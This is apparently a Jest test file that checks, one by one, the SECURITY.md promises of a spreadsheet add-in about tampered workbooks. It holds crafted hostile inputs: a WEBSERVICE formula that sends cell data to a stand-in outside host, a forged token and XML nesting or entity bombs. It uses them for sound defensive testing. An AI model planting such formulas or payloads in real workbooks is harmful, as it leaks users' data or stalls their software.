import { existsSync, readFileSync } from 'node:fs';
import { RollbackError } from '../../src/workbook/linked/journal';
import { measureProcessorMillis } from '../support/processor-millis';
import {
  pointAtTable,
  setQuery,
  setId,
  toSnapshot,
  addHashesOfTypedRows,
  handMadeSheet,
  openFile,
  addElement,
  readTypedCells,
} from '../support/tampered-file';

// The promises of SECURITY.md about untrusted workbooks, each with a test.

const otherAddress = 'https://elsewhere.invalid';
const securityPage = readFileSync('SECURITY.md', 'utf8');
const sections = new Map(securityPage.split(/^## /m).map((text) => [text.split('\n')[0] ?? '', text]));
const statedPromises = [...(sections.get("A workbook can't") ?? '').matchAll(/^- (.+)$/gm)].map(
  ([, promise = '']) => promise,
);

type File = Awaited<ReturnType<typeof openFile>>;

/** Replaces the parts of the file, and runs every action on the listed data ranges. */
async function tryAllActions(file: File, parts: readonly string[]): Promise<void> {
  const { workbook, actions } = file;
  workbook.storedParts.clear();
  parts.forEach((xml, index) => workbook.storedParts.set(`{tampered ${index}}`, xml));
  const rethrowUnexpected = (error: unknown) => {
    if (!(error instanceof Error) || error instanceof RollbackError) throw error;
  };
  await actions.refreshDataRanges('all').catch(rethrowUnexpected);
  for (const { id } of await actions.listDataRanges()) {
    await actions.refreshDataRanges([id]).catch(rethrowUnexpected);
    await actions.convertDataRange(id, 'linked table').catch(rethrowUnexpected);
    await actions.convertDataRange(id, 'formula').catch(rethrowUnexpected);
    await actions.removeDataRange(id, false).catch(rethrowUnexpected);
  }
}

const expectNoChange = (tamper: (validXml: string) => readonly string[]) => async () => {
  const file = await openFile();
  const before = readTypedCells(file.workbook);
  await tryAllActions(file, tamper(file.validXml));
  expect(readTypedCells(file.workbook)).toEqual(before);
};

const expectNoEntry = (formula: string) => async () => {
  const file = await openFile();
  await tryAllActions(file, [setQuery(file.validXml, formula)]);
  expect(file.workbook.entered).toEqual([]);
};

const promises: Readonly<Record<string, () => Promise<void>>> = {
  "send a request to an address that the user hasn't entered": async () => {
    const request = jest.spyOn(globalThis, 'fetch').mockRejectedValue(new Error('offline'));
    const file = await openFile();
    await tryAllActions(file, [
      addElement(file.validXml, `<service>${otherAddress}</service>`),
      setId(setQuery(file.validXml, `=IDS.QUERY("${otherAddress}/v2","top=1")`), 'second'),
    ]);
    expect(request).not.toHaveBeenCalled();
    request.mockRestore();
  },
  'bring a token or a service address of its own': async () => {
    const file = await openFile();
    await tryAllActions(file, [
      addElement(file.validXml, `<service>${otherAddress}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`),
    ]);
    expect(JSON.stringify([file.workbook.entered, [...file.workbook.storedParts.values()]])).not.toMatch(
      /elsewhere|eyJ/,
    );
  },
  'enter a formula other than one call of an IDS function': expectNoEntry(`=WEBSERVICE("${otherAddress}/?"&A1)`),
  'enter a formula that refers to another file': expectNoEntry(`=IDS.POSITIONS('${otherAddress}/x.xlsx'!N,"last")`),
  "make a refresh overwrite rows that don't match what the add-in wrote": expectNoChange((validXml) => [
    pointAtTable(validXml, handMadeSheet, 'Mine'),
  ]),
  'write into a table that was neither linked nor confirmed on this device': expectNoChange((validXml) => [
    validXml,
    setId(addHashesOfTypedRows(validXml), 'added'),
  ]),
  'write values under the header of another column': expectNoChange((validXml) => [
    pointAtTable(validXml, handMadeSheet, 'Mine').replace('header="Quantity"', 'header="Price"'),
  ]),
  'refresh one table through two definitions': async () => {
    const { workbook, actions, validXml } = await openFile();
    workbook.storedParts.set('{second}', setId(validXml, 'second'));
    const listed = await actions.listDataRanges();
    expect(listed.filter(({ address }) => address !== '')).toHaveLength(1);
    expect(listed).toContainEqual(
      expect.objectContaining({ state: 'failed', problem: expect.stringMatching(/second definition/) as string }),
    );
  },
  'clear cells with a forged snapshot stamp': expectNoChange((validXml) => [
    toSnapshot(
      pointAtTable(validXml, handMadeSheet, 'Mine'),
      `<note sheet="${handMadeSheet}" row="6" column="0" rows="2" columns="2" hash="2-x-y"/>`,
    ),
  ]),
  'convert or remove cells that someone typed over': async () => {
    const { workbook, actions } = await openFile();
    const sheet = workbook.getSheet('Sheet1');
    sheet.set(2, 1, { ...sheet.get(2, 1), value: 999 });
    const [{ id = '' } = {}] = await actions.listDataRanges();
    await expect(actions.convertDataRange(id, 'formula')).rejects.toThrow(/have changed since the last refresh/);
    await expect(actions.removeDataRange(id, false)).rejects.toThrow(/have changed since the last refresh/);
    expect(sheet.get(2, 1).value).toBe(999);
  },
  'show a table with rows of several fetches as fresh': async () => {
    const { workbook, actions, source, validXml } = await openFile();
    source.fetchedAt = Date.parse('2026-01-02T12:00:00');
    await actions.refreshDataRanges('all');
    expect(await actions.listDataRanges()).toMatchObject([{ state: 'fresh' }]);
    const [[part = '', now = ''] = []] = [...workbook.storedParts];
    const written = /<written .*?<\/written>/s;
    workbook.storedParts.set(
      part,
      now.replace(written, (written.exec(validXml)?.[0] ?? '').replace(/>[0-9a-z]{6}/, '>zzzzzz')),
    );
    expect(await actions.listDataRanges()).toMatchObject([{ state: 'stale' }]);
  },
  'stop other tables or the audit from working with a broken definition': async () => {
    const { workbook, actions, validXml } = await openFile();
    workbook.storedParts.set('{broken}', validXml.slice(0, 200));
    workbook.storedParts.set(
      '{other}',
      setId(pointAtTable(validXml, handMadeSheet, 'Mine'), 'other').replaceAll('header="', 'header="x'),
    );
    expect(await actions.refreshDataRanges('all')).toContainEqual(expect.objectContaining({ outcome: 'unchanged' }));
    await expect(actions.writeAudit()).resolves.toMatch(/^IDS audit/);
  },
  'stop the add-in with its size or nesting': async () => {
    const { workbook, actions, validXml } = await openFile();
    workbook.storedParts.set('{deep}', addElement(validXml, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
    workbook.storedParts.set('{wide}', addElement(validXml, `<!--${'x'.repeat(1_000_000)}-->`));
    workbook.storedParts.set('{entities}', `<!DOCTYPE block [<!ENTITY a "x">]>${validXml}`);
    expect(
      await measureProcessorMillis(async () => expect(await actions.listDataRanges()).toHaveLength(4)),
    ).toBeLessThan(2_000);
  },
};

test('every promise about workbooks has a test here, and every test has a promise', () => {
  expect(Object.keys(promises).sort()).toEqual([...statedPromises].sort());
});

test.each(Object.entries(promises))("a workbook can't %s", (_promise, checkPromise) => checkPromise());

test('every other promise names existing tests', () => {
  const rows = [...(sections.get('Other promises') ?? '').matchAll(/^\| [^|]+ \| (`[^|]+) \|$/gm)];
  const files = rows.map(([, cell = '']) => [...cell.matchAll(/`([^`]+)`/g)].map(([, file = '']) => file));
  expect(files.length).toBeGreaterThan(12);
  expect(files.flat().filter((file) => !existsSync(file))).toEqual([]);
  expect(files.filter((named) => named.length === 0)).toEqual([]);
});
